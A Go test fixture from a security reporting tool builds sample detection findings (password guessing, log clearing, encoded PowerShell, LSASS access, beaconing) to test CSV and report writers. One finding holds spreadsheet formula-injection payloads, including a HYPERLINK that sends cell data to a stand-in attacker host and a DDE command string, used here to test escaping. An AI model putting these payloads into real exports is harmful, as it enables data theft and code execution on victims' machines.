package report

import (
	"time"

	"github.com/ttpmap/ttpmap/finding"
)

// testNamer stands in for the attack knowledge base.
var testNamer = TechniqueNamerFunc(func(id string) (string, bool) {
	switch id {
	case "T1003.001":
		return "LSASS Memory", true
	}
	return "", false
})

// sampleFindings returns a fresh set of realistic findings covering the
// cases the writers must handle. Each call builds new values, so tests may
// run in parallel and check that writers do not modify their input.
func sampleFindings() []*finding.Finding {
	base := time.Date(2026, 3, 14, 8, 2, 11, 0, time.UTC)
	return []*finding.Finding{
		{
			// A 4625 burst (correlation): no rendered message, so the CSV
			// falls back to the original event.
			EventID:         "f-4625-burst-dc01",
			Timestamp:       base,
			Source:          "10.0.0.66",
			Destination:     "DC01.corp.local",
			TechniqueIDs:    []string{"T1110.001"},
			Tactics:         []string{"credential-access"},
			ConfidenceScore: 0.8,
			RelatedIndicators: []finding.Indicator{
				{ID: "ind-1", Type: "ipv4-addr", Value: "10.0.0.66", Tags: []string{"source"}},
			},
			EventType:     "alert",
			Severity:      "medium",
			Description:   "Password guessing: 25 failed logons for administrator from 10.0.0.66 in 60s",
			SourceService: "ttpmap",
			Host:          "DC01.corp.local",
			User:          "CORP\\administrator",
			RuleID:        "5a1b2c3d-0000-4000-8000-000000004625",
			RuleTitle:     "Failed logon burst",
			RuleLevel:     "medium",
			Metadata: finding.Metadata{
				TechniqueDetails: []finding.TechniqueDetail{{
					ID: "T1110.001", Name: "Password Guessing", Tactics: []string{"credential-access"},
					URL: "https://attack.mitre.org/techniques/T1110/001/",
				}},
				ThreatActors: []finding.ThreatActor{{ID: "G0016", Name: "APT29"}},
				OriginalEvent: map[string]any{
					"EventID": "4625", "Computer": "DC01.corp.local", "IpAddress": "10.0.0.66",
					"TargetUserName": "administrator", "LogonType": "3", "count": 25,
				},
			},
			File: "Security.evtx", Channel: "Security", WinEvent: 4625,
		},
		{
			// 1102: the audit log was cleared; multi-line message with tabs.
			EventID:       "f-1102-dc01",
			Timestamp:     base.Add(7 * time.Minute),
			Source:        "",
			Destination:   "DC01.corp.local",
			TechniqueIDs:  []string{"T1070.001"},
			Tactics:       []string{"defense-evasion"},
			EventType:     "threat",
			Severity:      "high",
			Description:   "Security audit log cleared by CORP\\svc_backup",
			SourceService: "ttpmap",
			Host:          "DC01.corp.local",
			User:          "CORP\\svc_backup",
			RuleID:        "c2f690ac-53f8-4745-8cfe-7127dda28c74",
			RuleTitle:     "Security Event Log Cleared",
			Metadata: finding.Metadata{
				TechniqueDetails: []finding.TechniqueDetail{{
					ID: "T1070.001", Name: "Clear Windows Event Logs", Tactics: []string{"defense-evasion"},
					URL: "https://attack.mitre.org/techniques/T1070/001/",
				}},
			},
			Channel: "Security", WinEvent: 1102,
			Message: "The audit log was cleared.\r\nSubject:\r\n\tSecurity ID:\tS-1-5-21-1004\r\n\tAccount Name:\tsvc_backup",
		},
		{
			// 4104: two techniques; a message with quotes, commas and lines.
			EventID:      "f-4104-ws01",
			Timestamp:    base.Add(12*time.Minute + 500*time.Millisecond),
			Destination:  "WS01.corp.local",
			TechniqueIDs: []string{"T1059.001", "T1027"},
			Tactics:      []string{"execution", "defense-evasion"},
			EventType:    "threat",
			Severity:     "high",
			Description:  "Encoded PowerShell, obfuscated script block",
			Host:         "WS01.corp.local",
			User:         "CORP\\bob",
			RuleID:       "9e2e8f4a-1111-4222-8333-444455556666",
			RuleTitle:    "Obfuscated PowerShell script block",
			Metadata: finding.Metadata{
				TechniqueDetails: []finding.TechniqueDetail{
					{ID: "T1059.001", Name: "PowerShell", Tactics: []string{"execution"}},
					{ID: "T1027", Name: "Obfuscated Files or Information", Tactics: []string{"defense-evasion"}},
				},
			},
			Channel: "Microsoft-Windows-PowerShell/Operational", WinEvent: 4104,
			Message: "Creating Scriptblock text (1 of 1):\n" +
				`powershell.exe -nop -w hidden -enc "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", 'a,b'` + "\n" +
				`ScriptBlock ID: 0b5c, Path: "C:\Users\bob\run.ps1"`,
		},
		{
			// No technique at all: one CSV row with empty technique columns.
			EventID:     "f-4720-ws01",
			Timestamp:   base.Add(20 * time.Minute),
			EventType:   "anomaly",
			Severity:    "low",
			Description: "Local user account created: helpdesk2",
			Host:        "WS01.corp.local",
			User:        "CORP\\bob",
			RuleID:      "66b6be3d-55d0-4f47-9855-d69df21740ea",
			RuleTitle:   "Local user creation",
			Channel:     "Security", WinEvent: 4720,
			Message: "A user account was created.",
		},
		{
			// Values a spreadsheet would run as formulas.
			EventID:      "f-4688-ws02",
			Timestamp:    base.Add(31 * time.Minute),
			Source:       "@10.0.0.9",
			TechniqueIDs: []string{"T1059.003"},
			Tactics:      []string{"execution"},
			EventType:    "threat",
			Severity:     "critical",
			Description:  `=HYPERLINK("http://evil.example/?"&A1,"click")`,
			Host:         "WS02.corp.local",
			User:         "-2+3",
			RuleID:       "f5b2f3a6-7777-4888-9999-aaaabbbbcccc",
			RuleTitle:    "Command shell spawned from Office",
			Metadata: finding.Metadata{
				TechniqueDetails: []finding.TechniqueDetail{
					{ID: "T1059.003", Name: "Windows Command Shell", Tactics: []string{"execution"}},
				},
			},
			Channel: "Security", WinEvent: 4688,
			Message: `+cmd|' /C calc'!A0`,
		},
		{
			// Technique known by id only: the name comes from Options.Techniques.
			// Tactics from the finding (no detail) in ATT&CK's TA form.
			EventID:      "f-10-ws02",
			Timestamp:    base.Add(33 * time.Minute),
			TechniqueIDs: []string{"T1003.001"},
			Tactics:      []string{"TA0006"},
			EventType:    "threat",
			Severity:     "critical",
			Description:  "LSASS process memory read by rundll32.exe",
			Host:         "WS02.corp.local",
			User:         "NT AUTHORITY\\SYSTEM",
			RuleID:       "a18dd26b-6450-46de-8c91-9659150cf088",
			RuleTitle:    "LSASS access from unusual process",
			Metadata: finding.Metadata{
				TechniqueDetails: []finding.TechniqueDetail{{ID: "T1003.001", Tactics: []string{}}},
			},
			Channel: "Microsoft-Windows-Sysmon/Operational", WinEvent: 10,
			Message: "Process accessed:\nSourceImage: C:\\Windows\\System32\\rundll32.exe\nTargetImage: C:\\Windows\\system32\\lsass.exe",
		},
		{
			// A second burst on another host, same rule: counts add up.
			EventID:      "f-4625-burst-ws01",
			Timestamp:    base.Add(40 * time.Minute),
			Source:       "10.0.0.66",
			TechniqueIDs: []string{"T1110.001"},
			Tactics:      []string{"credential-access"},
			EventType:    "alert",
			Severity:     "medium",
			Description:  "Password guessing: 12 failed logons for bob from 10.0.0.66 in 60s",
			Host:         "WS01.corp.local",
			User:         "CORP\\bob",
			RuleID:       "5a1b2c3d-0000-4000-8000-000000004625",
			RuleTitle:    "Failed logon burst",
			Metadata: finding.Metadata{
				TechniqueDetails: []finding.TechniqueDetail{{
					ID: "T1110.001", Name: "Password Guessing", Tactics: []string{"credential-access"},
				}},
			},
			Channel: "Security", WinEvent: 4625,
			Message: "An account failed to log on.",
		},
		{
			// A Linux (Tracee) finding: no Windows event id.
			EventID:      "f-tracee-1",
			Timestamp:    time.Date(2026, 3, 14, 9, 30, 0, 0, time.FixedZone("CET", 3600)),
			Source:       "172.17.0.2",
			Destination:  "203.0.113.10",
			TechniqueIDs: []string{"T1071.001"},
			Tactics:      []string{"command-and-control"},
			EventType:    "alert",
			Severity:     "informational",
			Description:  "HTTP beacon to 203.0.113.10",
			Host:         "sandbox-7",
			User:         "root",
			RuleID:       "tracee-http-beacon",
			RuleTitle:    "HTTP beaconing",
			Metadata: finding.Metadata{
				TechniqueDetails: []finding.TechniqueDetail{{
					ID: "T1071.001", Name: "Web Protocols", Tactics: []string{"command-and-control"},
				}},
				OriginalEvent: map[string]any{"eventName": "net_packet_http_request", "args": map[string]any{"method": "GET"}},
			},
		},
	}
}

// csvRowsFor is how many CSV rows the sample findings give.
func csvRowsFor(fs []*finding.Finding) int {
	n := 0
	for _, f := range fs {
		n += max(1, len(techniqueIDs(f)))
	}
	return n
}
